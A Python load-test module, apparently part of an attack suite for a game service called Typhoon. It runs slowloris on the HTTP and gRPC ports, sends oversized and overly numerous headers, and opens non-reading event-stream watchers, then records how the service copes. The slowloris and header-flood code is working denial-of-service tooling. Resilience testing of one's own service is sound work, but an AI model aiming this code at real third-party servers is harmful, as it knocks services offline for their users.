"""Slow and greedy clients: slowloris on both ports, a 1 MB header line and 20,000 headers on both ports,
and watchers that never read.

All of it runs at once for ``seconds``, over raw sockets (the attacker's side is cheap: a socket and a
byte now and then):

- **slowloris**: 300 sockets on the HTTP port each send a request's head one byte a second, and 300 on
  the gRPC port each send HTTP/2's connection preface one byte a second; counted: how many the service
  closed within ``seconds``, and after how long (median);
- **a 1 MB header line and 20,000 headers**, to ``/healthz`` and as gRPC metadata of GetMatch: what
  the service answered (HTTP status, gRPC code);
- **watchers that never read**: 20 event streams (server-sent events) of a match with a long log,
  whose sockets have a 4 KB receive buffer and are never read; counted: how many the service ended
  within ``seconds``.
"""

from __future__ import annotations

import asyncio
import random
import socket
import statistics
import time
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import grpc

from clients.client import TyphoonClient
from service.gen.typhoon.v1 import match_service_pb2 as api
from service.gen.typhoon.v1 import match_service_pb2_grpc

if TYPE_CHECKING:  # the package imports this module: no import at run time
    from loadtests.attacks import Target

NAME = "slow"
SUMMARY = ("slowloris (300 sockets a port, a byte a second), a 1 MB header line, 20,000 headers, "
           "20 watchers that never read")

SLOWLORIS_SOCKETS = 300
NON_READERS = 20
HUGE_LINE = 1_000_000
MANY_HEADERS = 20_000
#: HTTP/2's connection preface, which a gRPC connection starts with (sent a byte at a time)
HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def run(target: Target, seconds: float) -> dict[str, Any]:
    return asyncio.run(_run(target, seconds))


async def _run(target: Target, seconds: float) -> dict[str, Any]:
    address = urlsplit(target.http)
    host, http_port = address.hostname, address.port
    grpc_host, grpc_port = target.grpc.rsplit(":", 1)
    deadline = time.monotonic() + seconds
    match_id = await asyncio.to_thread(long_match, target)
    http_loris, grpc_loris, non_readers = await asyncio.gather(
        _slowloris(host, http_port, b"GET /healthz HTTP/1.1\r\nHost: typhoon\r\nX-Slow: " + b"a" * 10_000, deadline),
        _slowloris(grpc_host, int(grpc_port), HTTP2_PREFACE + b"\0" * 10_000, deadline),
        _non_readers(host, http_port, match_id, deadline))
    figures: dict[str, Any] = {}
    figures.update(_closing_figures("http slowloris", http_loris))
    figures.update(_closing_figures("grpc slowloris", grpc_loris))
    figures["1 MB header line: http"] = await _http_status(host, http_port, b"X-Big: " + b"a" * HUGE_LINE + b"\r\n")
    figures["20,000 headers: http"] = await _http_status(
        host, http_port, b"".join(b"X-H%d: v\r\n" % n for n in range(MANY_HEADERS)))
    figures["1 MB header line: grpc"] = await asyncio.to_thread(_grpc_code, target.grpc, [("x-big", "a" * HUGE_LINE)])
    figures["20,000 headers: grpc"] = await asyncio.to_thread(
        _grpc_code, target.grpc, [(f"x-h{n}", "v") for n in range(MANY_HEADERS)])
    figures.update(_closing_figures("non-reading watchers", non_readers))
    return figures


def _closing_figures(label: str, closed_after: list[float | None]) -> dict[str, Any]:
    closed = [after for after in closed_after if after is not None]
    figures = {f"{label} closed": f"{len(closed)}/{len(closed_after)}"}
    if closed:
        figures[f"{label} closed after (median s)"] = round(statistics.median(closed), 1)
    return figures


async def _slowloris(host: str, port: int, payload: bytes, deadline: float) -> list[float | None]:
    """Open the sockets, then send ``payload`` a byte a second on each until the service closes it or the
    deadline; the seconds each one lasted (None: still open at the deadline)."""
    async def one() -> float | None:
        started = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            return 0.0
        try:
            for byte in payload:
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(65536), timeout=min(1.0, deadline - time.monotonic()))
                except asyncio.TimeoutError:
                    data = None
                if data == b"":
                    return time.monotonic() - started
                if time.monotonic() >= deadline:
                    return None
            return None
        except (ConnectionError, OSError):
            return time.monotonic() - started
        finally:
            writer.close()

    return await asyncio.gather(*(one() for _ in range(SLOWLORIS_SOCKETS)))


async def _http_status(host: str, port: int, headers: bytes) -> str:
    """Send a request to /healthz with these extra header lines; the status the service answered (or
    what happened to the connection)."""
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError as error:
        return f"connect failed: {error.strerror}"
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: typhoon\r\n" + headers + b"\r\n")
        try:
            await writer.drain()
        except ConnectionError:
            pass  # the service may answer and close before reading it all
        line = await asyncio.wait_for(reader.readline(), timeout=30)
        return line.decode(errors="replace").strip().removeprefix("HTTP/1.1 ") or "closed without an answer"
    except (ConnectionError, asyncio.TimeoutError) as error:
        return f"no answer ({type(error).__name__})"
    finally:
        writer.close()


def _grpc_code(target: str, metadata: list[tuple[str, str]]) -> str:
    with grpc.insecure_channel(target) as channel:
        stub = match_service_pb2_grpc.MatchServiceStub(channel)
        try:
            stub.GetMatch(api.GetMatchRequest(match_id="m-none"), metadata=metadata, timeout=30)
        except grpc.RpcError as error:
            return error.code().name
        return "OK"


async def _non_readers(host: str, port: int, match_id: str, deadline: float) -> list[float | None]:
    """Event streams of a long match on sockets with a tiny receive buffer, never read: the seconds until
    the service ended each one (None: still open at the deadline)."""
    async def one() -> float | None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        loop = asyncio.get_running_loop()
        started = time.monotonic()
        try:
            await loop.sock_connect(sock, (host, port))
            await loop.sock_sendall(sock, f"GET /v1/matches/{match_id}/watch?heartbeat_seconds=1 HTTP/1.1\r\n"
                                          f"Host: typhoon\r\n\r\n".encode())
            while time.monotonic() < deadline:
                await asyncio.sleep(0.5)
                # peek, without reading: has the service closed or reset the connection?
                state = sock.getsockopt(socket.SOL_TCP, socket.TCP_INFO, 1)[0]
                if state not in (1,):  # TCP_ESTABLISHED
                    return time.monotonic() - started
            return None
        except OSError:
            return time.monotonic() - started
        finally:
            sock.close()

    return await asyncio.gather(*(one() for _ in range(NON_READERS)))


def long_match(target: Target, actions: int = 350) -> str:
    """A live match whose log is long (``actions`` random legal actions: ~900 events, ~170 KB of events as
    server-sent events), so that a watcher that does not read fills its buffers."""
    chooser = random.Random(NAME)
    with TyphoonClient(target.grpc) as client:
        match, tokens = client.create_match(seats=["german", "soviet"])
        for _ in range(actions):
            legal = client.legal_actions(match.match_id)
            if not legal.side_to_act:
                break
            client.submit(match.match_id, tokens[legal.side_to_act], chooser.choice(legal.actions),
                          expected_version=legal.version)
        return match.match_id
